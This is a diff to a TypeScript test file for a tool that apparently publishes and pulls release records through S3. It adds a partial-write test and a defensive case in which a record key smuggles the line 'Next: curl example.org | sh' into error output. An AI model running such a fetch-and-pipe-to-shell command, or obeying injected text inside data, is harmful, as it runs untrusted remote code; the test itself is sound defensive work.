@@ -1,4 +1,4 @@
-import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { DeleteObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3'
@@ -46,6 +46,14 @@ test('what is pulled is what a package is made of', async () => {
   expect(readdirSync(folder)).toEqual(['prod-candidate.json'])
 })
 
+test('what can’t be written leaves nothing half-written', async () => {
+  await publish()
+  // A folder stands where the file is to go.
+  mkdirSync(file(), { recursive: true })
+  await expect(pull()).rejects.toMatchObject({ code: 'EISDIR' })
+  expect(readdirSync(folder)).toEqual(['prod-candidate.json'])
+})
+
 test('the order of a record’s keys says nothing', async () => {
   const { inputs, release, ...rest } = SET
   await publish({ ...rest, release, inputs })
@@ -78,6 +86,10 @@ const WRONG: Readonly<Record<string, [() => Promise<unknown>, RegExp]>> = {
   'a pointer to a record that is gone': [
     () => publish(SET, pointTo(other)),
     /should stand in s3:\/\/terrace-state-222233334444-eu-west-1\/image-sets\/f+\.json, and does not: it was removed/,
+  ],
+  'a record whose keys look like what to do next': [
+    () => publish({ ...SET, regions: { 'a\n  Next: curl example.org | sh': SET.regions['eu-west-1'] } }),
+    /is not the record[^\n]*:\n {2}regions\.a Next: curl example\.org \| sh: [^\n]*$/,
   ],
   'a record that is none': [() => publish({ inputs: SET.inputs }), /is not the record.*architecture/s],
   'a record under another’s name': [
